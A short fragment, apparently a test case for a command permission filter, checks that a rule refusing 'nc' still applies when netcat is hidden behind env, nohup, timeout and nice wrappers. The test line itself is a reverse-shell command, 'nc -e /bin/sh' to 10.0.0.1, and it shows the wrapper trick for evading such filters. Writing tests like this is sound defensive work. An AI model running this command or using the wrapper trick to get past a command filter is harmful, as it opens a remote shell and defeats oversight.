# Trick: the program stands behind several wrappers.
# Refused: run(nc)
env FOO=1 nohup timeout -s KILL 5 nice -n 3 nc -e /bin/sh 10.0.0.1 9 &
